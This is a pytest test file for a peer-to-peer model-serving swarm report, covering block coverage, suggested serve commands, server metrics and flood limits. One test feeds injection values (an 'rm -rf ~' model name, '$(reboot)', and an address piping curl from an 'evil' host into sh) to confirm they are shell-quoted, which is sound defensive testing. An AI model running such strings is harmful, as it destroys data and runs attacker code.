"""The swarm as JSON: coverage, what is missing, the command that would help, and bounds on what strangers announce."""

from __future__ import annotations

import shlex
import time
from dataclasses import replace
from pathlib import Path

import pytest

from petalnode.crypto.identity import Identity
from petalnode.node.swarm.view import coverage_of
from petalnode.node.trust.reputation import Ban
from petalnode.node.validator.history import History, last_verdicts
from petalnode.node.verification.verdicts import Verdict
from petalnode.node.web.swarm_report import (
    MAX_ROUND_TRIPS,
    MAX_SERVERS,
    KnownServer,
    LastVerdict,
    SwarmState,
    spans_with,
    swarm_report,
)
from petalnode.protocols.announcement import Announcement, ServerState
from petalnode.protocols.ids import Span

VERSION = bytes(range(32))
PEERS = sorted(Identity.generate().peer_id for _ in range(4))


def server(blocks: tuple[int, int], peer: int = 0, **more: object) -> KnownServer:
    said = Announcement(PEERS[peer], VERSION, "tiny", 6, Span(*blocks), ServerState.ONLINE)
    known = KnownServer(said)
    told = {name: value for name, value in more.items() if name in Announcement.__dataclass_fields__}
    rest = {name: value for name, value in more.items() if name not in told}
    return replace(known, said=replace(said, **told), **rest)  # type: ignore[arg-type]


def state(*servers: KnownServer, **more: object) -> SwarmState:
    return replace(SwarmState("tiny", VERSION, 6, servers, "me"), **more)  # type: ignore[arg-type]


def test_online_unbanned_servers_cover_blocks() -> None:
    ban = Ban(PEERS[3], 1e12, "lied", "own")
    report = swarm_report(
        state(
            server((0, 3)),
            server((2, 4), 1),
            server((0, 6), 2, state=ServerState.JOINING),
            server((0, 6), 3, ban=ban),
        )
    )
    assert report["coverage"] == [1, 1, 2, 1, 0, 0]
    assert report["missing_blocks"] == [[4, 6]]
    assert [one["state"] for one in report["servers"]] == ["online", "joining", "online", "online"]


def test_coverage_ends_with_the_model() -> None:
    wide = replace(server((0, 6)).said, span=Span(4, 4000))
    assert coverage_of([wide], 6) == [0, 0, 0, 0, 1, 1]
    assert spans_with([1, 0, 0, 1, 0], 0) == [Span(1, 3), Span(4, 5)]


def test_command_that_would_help_serves_what_is_missing() -> None:
    address = "/ip4/192.0.2.7/tcp/4001"
    told = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), server((5, 6), 1)))["help"]
    assert told["command"] == f"petalnode serve tiny --blocks 2:5 --peer {address}/p2p/{PEERS[0]}"
    assert "blocks 2:5" in told["text"]
    two = swarm_report(state(server((2, 3))))["help"]
    assert "--blocks 0:2" in two["command"] and "0:2, 3:6" in two["text"]
    joined = swarm_report(state(server((0, 2), addrs=(address,)), peers=("/ip4/192.0.2.1/tcp/1/p2p/x",)))["help"]
    assert joined["command"].endswith("--peer /ip4/192.0.2.1/tcp/1/p2p/x")
    gone = swarm_report(state(server((0, 2), addrs=(address,))))["help"]  # not connected: it may be dead
    assert "--peer" not in gone["command"]
    assert swarm_report(state())["help"]["command"] == "petalnode serve tiny --blocks 0:6"
    assert "join" not in gone
    asked = swarm_report(state(join="petalnode join petalnode:aeaq"))["help"]
    assert asked["join"] == "petalnode join petalnode:aeaq"


def test_one_more_server_helps_a_lone_one() -> None:
    single = swarm_report(state(server((0, 6)), server((0, 4), 1)))["help"]
    assert "blocks 4:6" in single["text"] and "--blocks" not in single["command"]
    assert swarm_report(state(server((0, 6)), server((0, 6), 1)))["help"] is None


@pytest.mark.parametrize("model", ["tiny; rm -rf ~", "$(reboot)", "a'b"])
def test_what_person_copies_into_shell_is_words_only(model: str) -> None:
    """Addresses are written by strangers: a name in one may hold whatever a shell understands."""
    address = "/dns4/x;curl$IFS'evil|sh`/tcp/1"
    command = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), model=model))["help"]["command"]
    words = shlex.split(command)
    assert words == ["petalnode", "serve", model, "--blocks", "2:6", "--peer", f"{address}/p2p/{PEERS[0]}"]


def test_server_says_how_it_is_reached() -> None:
    known = server((0, 6), step_seconds=0.01, cache_tokens_free=7, round_trip=0.0123, path="relay", reputation=0.5)
    (one,) = swarm_report(state(known))["servers"]
    assert (one["throughput"], one["cache_tokens_free"]) == (100.0, 7)
    assert (one["round_trip_ms"], one["path"], one["reputation"]) == (12.3, "relay", 0.5)
    assert one["verdict"] is None and one["banned_until"] is None


def test_last_verdict_is_a_validators_or_a_bans() -> None:
    verdict = LastVerdict("ok", "", 5.0)
    (one,) = swarm_report(state(server((0, 6), verdict=verdict)))["servers"]
    assert one["verdict"] == {"verdict": "ok", "reason": "", "source": "validator", "time": 5.0}
    banned = server((0, 6), verdict=verdict, ban=Ban(PEERS[0], 9e9, "lied", "evidence"))
    (one,) = swarm_report(state(banned))["servers"]
    assert one["verdict"] == {"verdict": "faulty", "reason": "lied", "source": "evidence", "time": None}
    assert one["banned_until"] == 9e9


def test_round_trips_are_to_listed_servers() -> None:
    rtts = {PEERS[1]: 0.02, "somebody else": 0.1, PEERS[0]: 0.0}
    report = swarm_report(state(server((0, 3), round_trip=0.001, rtts=rtts), server((3, 6), 1)))
    assert report["round_trips"] == [
        {"from": "me", "to": PEERS[0], "ms": 1.0},
        {"from": PEERS[0], "to": PEERS[1], "ms": 20.0},
    ]


def test_a_flood_of_servers_makes_no_larger_report() -> None:
    names = [f"{index:05d}" for index in range(3000)]
    rtts = dict.fromkeys(names[:64], 0.1)
    flood = [replace(server((0, 6)), said=replace(server((0, 6)).said, peer_id=name, rtts=rtts)) for name in names]
    ours = server((0, 6), path="direct")
    report = swarm_report(state(*flood, ours))
    assert len(report["servers"]) == MAX_SERVERS
    assert report["servers_left_out"] == 3001 - MAX_SERVERS
    assert PEERS[0] in {one["peer_id"] for one in report["servers"]}
    assert len(report["round_trips"]) == MAX_ROUND_TRIPS
    assert report["coverage"] == [3001] * 6


def test_server_of_another_shape_is_not_the_models() -> None:
    other = replace(server((0, 6)), said=replace(server((0, 6)).said, num_blocks=7))
    assert swarm_report(state(other))["servers"] == []


def test_verdicts_are_read_while_the_validator_writes_them(tmp_path: Path) -> None:
    file = tmp_path / "history.sqlite"
    assert last_verdicts(file, VERSION) == {}
    assert not file.exists()
    with History(file) as history:
        for verdict, reason in (("ok", ""), ("faulty", "off by 3")):
            history.add(VERSION, Verdict(PEERS[0], Span(0, 6), verdict, reason, None, None), now=time.time())
        found = last_verdicts(file, VERSION)
        assert {peer: (verdict, reason) for peer, (verdict, reason, _) in found.items()} == {
            PEERS[0]: ("faulty", "off by 3")
        }
        assert last_verdicts(file, bytes(32)) == {}
    file.write_bytes(b"no database" * 100)
    assert last_verdicts(file, VERSION) == {}
